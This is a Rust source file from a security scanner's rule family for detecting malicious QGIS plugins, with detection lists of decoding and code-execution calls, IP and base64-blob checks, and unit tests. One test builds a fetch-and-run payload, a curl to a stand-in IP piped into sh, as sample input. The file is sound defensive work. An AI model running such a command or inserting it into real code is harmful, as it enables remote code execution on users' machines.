//! The `qgis` check family: threats, where a capability meets a suspicious context. Decoded or
//! downloaded data that is executed, code planted where QGIS runs it at every start, plugin
//! repositories or proxies rewritten, stored credentials next to the network, packages installed
//! at run time, hosts given as literal IP addresses, and encoded blobs that are Python. Vetted's
//! own rules (no reference tool has them); the evidence comes from the capability walk
//! ([`crate::capabilities`]), on the same parse as every other Python family.

use std::io::Read;

use crate::catalog::FamilyRule;
use crate::report::Severity;

pub const DECODED_EXEC: &str = "QGIS001";
pub const DOWNLOAD_EXEC: &str = "QGIS002";
pub const PLANTED_CODE: &str = "QGIS003";
pub const SETTINGS_REWRITE: &str = "QGIS004";
pub const CREDENTIALS_NETWORK: &str = "QGIS005";
pub const RUNTIME_PACKAGES: &str = "QGIS006";
pub const LITERAL_IP: &str = "QGIS007";
pub const ENCODED_PYTHON: &str = "QGIS008";

/// Every threat rule, with its default severity (critical ones are not skippable).
pub const RULES: &[(FamilyRule, Severity)] = &[
    (
        rule(DECODED_EXEC, "Decoded data is executed"),
        Severity::Critical,
    ),
    (
        rule(DOWNLOAD_EXEC, "Downloaded code is executed or installed"),
        Severity::Critical,
    ),
    (
        rule(PLANTED_CODE, "Code written where QGIS runs it"),
        Severity::Critical,
    ),
    (
        rule(
            SETTINGS_REWRITE,
            "Plugin repositories, proxy or authentication settings rewritten",
        ),
        Severity::Critical,
    ),
    (
        rule(
            CREDENTIALS_NETWORK,
            "Stored credentials read next to network access",
        ),
        Severity::Warning,
    ),
    (
        rule(RUNTIME_PACKAGES, "Packages installed at run time"),
        Severity::Warning,
    ),
    (
        rule(LITERAL_IP, "Network target given as a literal IP address"),
        Severity::Warning,
    ),
    (
        rule(ENCODED_PYTHON, "Encoded blob that decodes to Python"),
        Severity::Critical,
    ),
];

const fn rule(code: &'static str, name: &'static str) -> FamilyRule {
    FamilyRule {
        code,
        name,
        tool_default: false,
    }
}

/// Calls that turn encoded data back into bytes or text.
pub const DECODERS: &[&str] = &[
    "base64.b64decode",
    "base64.b32decode",
    "base64.b16decode",
    "base64.a85decode",
    "base64.b85decode",
    "base64.decodebytes",
    "base64.decodestring",
    "base64.standard_b64decode",
    "base64.urlsafe_b64decode",
    "zlib.decompress",
    "gzip.decompress",
    "bz2.decompress",
    "lzma.decompress",
    "codecs.decode",
    "binascii.unhexlify",
    "binascii.a2b_base64",
    "binascii.a2b_hex",
    "bytes.fromhex",
    "bytearray.fromhex",
    "marshal.loads",
    "chr",
];

/// Calls that run or load code from data.
pub const EXEC_SINKS: &[&str] = &[
    "exec",
    "eval",
    "compile",
    "execfile",
    "marshal.loads",
    "pickle.loads",
    "cPickle.loads",
    "dill.loads",
    "types.FunctionType",
    "runpy.run_path",
];

/// Whether a host is a literal IP address that is neither loopback, unspecified, nor private
/// (an intranet address in a plugin is unremarkable; a public one hides who is contacted).
pub fn is_public_ip_literal(host: &str) -> bool {
    let host = host.trim_start_matches('[').trim_end_matches(']');
    match host.parse::<std::net::IpAddr>() {
        Ok(std::net::IpAddr::V4(v4)) => {
            !(v4.is_loopback()
                || v4.is_private()
                || v4.is_unspecified()
                || v4.is_link_local()
                || v4.is_broadcast())
        }
        Ok(std::net::IpAddr::V6(v6)) => !(v6.is_loopback() || v6.is_unspecified()),
        Err(_) => false,
    }
}

/// The host of a URL-like target (`scheme://[user@]host[:port]/…`), or the target itself when
/// it is a bare address.
pub fn host_of(target: &str) -> &str {
    let rest = target.split_once("://").map_or(target, |(_, r)| r);
    let authority = rest.split(['/', '?', '#']).next().unwrap_or(rest);
    let host_port = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
    if host_port.starts_with('[') {
        return host_port
            .split_once(']')
            .map_or(host_port, |(h, _)| &h[1..]);
    }
    match host_port.rsplit_once(':') {
        Some((h, port)) if port.chars().all(|c| c.is_ascii_digit()) => h,
        _ => host_port,
    }
}

/// Longest decoded blob looked at (bytes).
const MAX_DECODED: usize = 4 * 1024 * 1024;
/// Shortest literal worth decoding: icons and keys are shorter than hidden payloads rarely are.
pub const MIN_BLOB_CHARS: usize = 200;

/// Whether a long base64 literal decodes (directly, or through zlib) to Python source.
pub fn blob_is_python(literal: &str) -> bool {
    let compact: String = literal.chars().filter(|c| !c.is_whitespace()).collect();
    if compact.len() < MIN_BLOB_CHARS
        || !compact
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'-' | b'_'))
    {
        return false;
    }
    let Some(bytes) = base64_decode(&compact) else {
        return false;
    };
    if looks_like_python(&bytes) {
        return true;
    }
    // zlib (78 01/5e/9c/da) or gzip (1f 8b) wrapped.
    let inflated = match bytes.get(..2) {
        Some([0x78, 0x01 | 0x5e | 0x9c | 0xda]) => {
            inflate(flate2::read::ZlibDecoder::new(bytes.as_slice()))
        }
        Some([0x1f, 0x8b]) => inflate(flate2::read::GzDecoder::new(bytes.as_slice())),
        _ => None,
    };
    inflated.is_some_and(|b| looks_like_python(&b))
}

fn inflate(reader: impl Read) -> Option<Vec<u8>> {
    let mut out = Vec::new();
    reader.take(MAX_DECODED as u64).read_to_end(&mut out).ok()?;
    Some(out)
}

fn looks_like_python(bytes: &[u8]) -> bool {
    let Ok(text) = std::str::from_utf8(bytes) else {
        return false;
    };
    let printable = text
        .chars()
        .filter(|c| !c.is_control() || c.is_whitespace())
        .count();
    if printable * 10 < text.chars().count() * 9 {
        return false;
    }
    [
        "import ",
        "exec(",
        "eval(",
        "def ",
        "__import__",
        "subprocess",
        "lambda ",
    ]
    .iter()
    .filter(|m| text.contains(*m))
    .count()
        >= 1
        && (text.contains('\n') || text.contains(';') || text.contains('('))
}

/// Standard or URL-safe base64, padding optional.
fn base64_decode(text: &str) -> Option<Vec<u8>> {
    let mut out = Vec::with_capacity(text.len() * 3 / 4);
    let mut acc = 0u32;
    let mut bits = 0;
    for b in text.bytes() {
        let v = match b {
            b'A'..=b'Z' => b - b'A',
            b'a'..=b'z' => b - b'a' + 26,
            b'0'..=b'9' => b - b'0' + 52,
            b'+' | b'-' => 62,
            b'/' | b'_' => 63,
            b'=' => break,
            _ => return None,
        };
        acc = (acc << 6) | u32::from(v);
        bits += 6;
        if bits >= 8 {
            bits -= 8;
            out.push((acc >> bits) as u8);
            acc &= (1 << bits) - 1;
        }
        if out.len() > MAX_DECODED {
            return None;
        }
    }
    Some(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn b64(bytes: &[u8]) -> String {
        const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let mut s = String::new();
        for chunk in bytes.chunks(3) {
            let n =
                chunk.iter().fold(0u32, |a, &b| (a << 8) | u32::from(b)) << (8 * (3 - chunk.len()));
            for i in 0..=chunk.len() {
                s.push(A[((n >> (18 - 6 * i)) & 63) as usize] as char);
            }
        }
        s
    }

    #[test]
    fn base64_round_trip() {
        assert_eq!(base64_decode(&b64(b"hello world")).unwrap(), b"hello world");
    }

    #[test]
    fn blobs_that_are_python_and_blobs_that_are_not() {
        let payload = "import os\nos.system('curl -s http://203.0.113.9/p | sh')\n".repeat(4);
        assert!(blob_is_python(&b64(payload.as_bytes())));
        let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
        std::io::Write::write_all(&mut z, payload.repeat(3).as_bytes()).unwrap();
        let packed = b64(&z.finish().unwrap());
        assert!(packed.len() < MIN_BLOB_CHARS || blob_is_python(&packed));
        let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
        png.extend((0..400u32).map(|i| (i * 7 % 251) as u8));
        assert!(!blob_is_python(&b64(&png)));
        assert!(!blob_is_python("short"));
    }

    #[test]
    fn hosts_and_ips() {
        assert_eq!(host_of("http://user:pw@203.0.113.7:8080/x"), "203.0.113.7");
        assert_eq!(host_of("https://[2001:db8::1]/x"), "2001:db8::1");
        assert!(is_public_ip_literal("203.0.113.7"));
        assert!(!is_public_ip_literal("127.0.0.1"));
        assert!(!is_public_ip_literal("192.168.1.10"));
        assert!(!is_public_ip_literal("example.org"));
    }
}
